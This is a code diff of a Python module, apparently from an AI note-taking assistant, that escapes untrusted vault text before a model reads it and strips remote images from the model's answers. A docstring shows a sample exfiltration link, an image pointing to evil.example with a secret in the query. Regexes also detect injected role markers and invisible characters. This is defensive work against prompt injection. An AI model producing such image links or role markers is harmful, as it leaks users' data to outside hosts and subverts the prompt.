@@ -1,17 +1,147 @@
-"""Write the system prompt: the person's own or the built-in text, their preferences, and today's date."""
+"""Write the system prompt, escape untrusted text before a model reads it, and sanitize a model's answers."""
 
-from collections.abc import Callable
+import json
+import re
+import secrets
+from collections.abc import Callable, Iterator
 from dataclasses import dataclass
 from datetime import datetime
 from importlib import resources
 from pathlib import Path
 from typing import Final, Literal
 
-from knapper.agents import untrusted
 from knapper.errors import NotFound, SetupError, StorageError
 from knapper.tools.context import Context
-from knapper.vault import parser
+from knapper.vault import links, parser
 from knapper.vault.access import PREFERENCES_NOTE
+
+_TAG_OPENING: Final = re.compile(r"<(?=\S)")
+_ROLE_MARKERS: Final = re.compile(
+    r"\[(?=/?(?:INST|SYS|SYSTEM|TOOL_CALLS|TOOL_RESULTS|AVAILABLE_TOOLS)\b)", re.IGNORECASE
+)
+_INVISIBLE_CHARS: Final = re.compile(
+    "[\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e0fff]"
+)
+# The common case: text without any character to escape skips the JSON encoder and three substitutions.
+_SAFE_TEXT: Final = re.compile(r"[^\x00-\x1f\"\\<\[" + _INVISIBLE_CHARS.pattern[1:-1] + "]*")
+"""Text that JSON holds unchanged."""
+BLOCK_TAG: Final = "vault-data"
+
+
+def new_mark() -> str:
+    """Return a random mark that untrusted text can't have guessed."""
+    return secrets.token_hex(6)
+
+
+def escape(data: object) -> str:
+    r"""Return data as JSON that holds nothing a model could take for the prompt's own markup.
+
+    ``{"a": "</vault-data>"}`` becomes ``{"a": "\\u003c/vault-data>"}``.
+    """
+    if isinstance(data, str) and _SAFE_TEXT.fullmatch(data):
+        return f'"{data}"'
+    text = json.dumps(data, ensure_ascii=False)
+    text = _TAG_OPENING.sub(r"\\u003c", text)
+    text = _ROLE_MARKERS.sub(r"\\u005b", text)
+    return _INVISIBLE_CHARS.sub(lambda match: json.dumps(match.group())[1:-1], text)
+
+
+def enclose(source: str, escaped: str, mark: str) -> str:
+    """Return escaped text as a block of the prompt.
+
+    Args:
+        source: Where the text comes from, in a trusted word such as a tool's name.
+        escaped: Text from `escape`, or a part of it.
+        mark: The block's mark, which closes it as well.
+    """
+    return f'<{BLOCK_TAG} source="{source}" mark="{mark}">\n{escaped}\n</{BLOCK_TAG} mark="{mark}">'
+
+
+def escape_plain(text: str) -> str:
+    """Escape a text that is used outside of a block, so that it holds none of the prompt's markup.
+
+    ``</vault-data>`` becomes ``&lt;/vault-data>``; invisible characters are removed.
+    """
+    return _ROLE_MARKERS.sub("&#91;", _TAG_OPENING.sub("&lt;", _INVISIBLE_CHARS.sub("", text)))
+
+
+_MAX_HOST_CHARS: Final = 100
+# Removing one image can complete another (`![![x](a)](b)`), so passes are repeated, but not without end.
+_MAX_PASSES: Final = 20
+"""Passes after which what is left is taken for a deliberate construction, and every image is disabled."""
+_OBSIDIAN_ONLY: Final = re.compile(rb"%%|\$|\A(?:\xef\xbb\xbf)?---")
+"""Beginnings of comments, maths and properties in Obsidian, which other Markdown renderers show as plain text."""
+_SCHEMELESS_ADDRESS: Final = re.compile(r"\s*[/\\]{2}")
+"""The beginning of an address without a scheme; browsers read a backslash as a slash."""
+ByteReplacement = tuple[int, int, bytes]
+
+
+def sanitize_answer(answer: str) -> tuple[str, tuple[str, ...]]:
+    """Replace remote images by plain mentions and escape HTML; code stays as it is.
+
+    ``![x](https://evil.example/?q=secret)`` becomes ``[image left out: evil.example]``. The result is checked
+    again, since removing one part can turn the text around it into an image.
+
+    Returns:
+        The sanitized answer, and notes for the person about what was changed.
+    """
+    data = answer.encode()
+    notes: dict[str, None] = {}
+    for _ in range(_MAX_PASSES):
+        # The answer is read twice, as Obsidian shows it and as other renderers do: what is a comment for one can be
+        # an image for the other.
+        edits = _outermost_edits(
+            {*_find_unsafe(data, notes), *_find_unsafe(data, notes, _OBSIDIAN_ONLY.sub(_blank_out, data))}
+        )
+        if not edits:
+            return data.decode(errors="replace"), tuple(notes)
+        for start, stop, text in edits:
+            data = data[:start] + text + data[stop:]
+    data = data.replace(b"<", b"&lt;").replace(b"![", b"!\\[")
+    return data.decode(errors="replace"), tuple(notes)
+
+
+def _find_unsafe(data: bytes, notes: dict[str, None], shown: bytes | None = None) -> Iterator[ByteReplacement]:
+    """Yield the replacements for remote images and HTML.
+
+    Args:
+        data: The answer.
+        notes: Notes for the person are added here.
+        shown: The answer as other renderers read it, with the same length; None to use *data*.
+    """
+    outline = parser.parse_note(data if shown is None else shown)
+    for link in outline.links:
+        if data[link.start : link.start + 1] == b"!" and _is_remote(link.target):
+            host = _host_name(link.target)
+            notes[f"an image from {host} was left out of the answer"] = None
+            yield link.start, link.stop, f"[image left out: {host}]".encode()
+    for start, stop in outline.code_spans:
+        if data[start : start + 1] == b"<":
+            yield start, stop, data[start:stop].replace(b"<", b"&lt;")
+
+
+def _is_remote(target: str) -> bool:
+    return links.is_external(target) or _SCHEMELESS_ADDRESS.match(target) is not None
+
+
+def _outermost_edits(edits: set[ByteReplacement]) -> list[ByteReplacement]:
+    """Return the edits that lie within no other edit, the last one first."""
+    outermost: list[ByteReplacement] = []
+    for edit in sorted(edits, key=lambda edit: (edit[0], -edit[1])):
+        if not outermost or edit[0] >= outermost[-1][1]:
+            outermost.append(edit)
+    return outermost[::-1]
+
+
+def _blank_out(match: re.Match[bytes]) -> bytes:
+    # Of the same length, so that spans found in the result are valid in the answer.
+    return b"*" * len(match[0]) if match[0].endswith(b"---") else b"z" * len(match[0])
+
+
+def _host_name(target: str) -> str:
+    host = target.replace("\\", "/").partition("//")[2].partition("/")[0].partition("?")[0].rpartition("@")[2]
+    return re.sub(r"[^\w.:-]", "", host[:_MAX_HOST_CHARS] or target[:20])
+
 
 PromptName = Literal["chat", "repair", "summary", "scout", "web", "task", "orchestrator", "rewrite", "stage"]
 _MAX_PREFERENCES: Final = 4_000
@@ -70,7 +200,7 @@ def write_system_prompt(base: str, context: Context, now: datetime, *, active_fi
     """
     parts = [base.strip(), f"## Today\n\n{now:%A}, {now.date().isoformat()}, {now:%H:%M}."]
     if active_file:
-        escaped_path = untrusted.escape(active_file)
+        escaped_path = escape(active_file)
         parts.append(f'## The open note\n\nThe person looks at {escaped_path}. "This note" means that file.')
     preferences = _read_preferences(context)
     if preferences:
@@ -88,7 +218,7 @@ def _read_preferences(context: Context) -> str:
     except NotFound:
         return ""
     text = parser.decode_text(note.raw).strip()[:_MAX_PREFERENCES]
-    return untrusted.escape_plain(text)
+    return escape_plain(text)
 
 
 def _read_prompt_file(path: Path) -> str:
